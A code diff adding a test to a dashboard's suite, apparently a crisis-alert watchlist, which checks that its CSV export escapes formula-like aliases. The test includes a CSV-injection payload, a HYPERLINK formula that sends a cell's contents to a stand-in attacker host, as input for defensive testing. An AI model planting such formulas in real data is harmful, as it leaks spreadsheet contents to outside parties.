@@ -164,3 +164,27 @@ async def test_from_the_watchlist_to_the_participant_page(dashboard, client, sta
     assert at.query_params.get("participant") in (robin.id, [robin.id])
     assert "Participants" in [t.value for t in at.title]
     assert "Robin" in texts(at)
+
+
+async def test_the_csv_cannot_run_a_formula_typed_as_an_alias(dashboard, client, staff, monkeypatch):
+    import csv
+    import io
+
+    import streamlit as st
+
+    offered: dict[str, str] = {}
+    real = st.download_button
+
+    def download_button(label, data, file_name=None, **kwargs):
+        offered[file_name] = data
+        return real(label, data, file_name=file_name, **kwargs)
+
+    monkeypatch.setattr(st, "download_button", download_button)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    await crisis(client, staff, formula, counselor_id=staff.id)
+    await crisis(client, staff, "-Robin", counselor_id=staff.id)
+    at = sign_in(dashboard(), staff)
+    assert sorted(at.dataframe[0].value["alias"]) == sorted([formula, "-Robin"])  # the table shows it as typed
+    rows = list(csv.DictReader(io.StringIO(offered["watchlist.csv"])))
+    assert sorted(r["alias"] for r in rows) == sorted(["'" + formula, "'-Robin"])  # text to a spreadsheet
+    assert {r["open_alerts"] for r in rows} == {"1"}  # numbers stay numbers
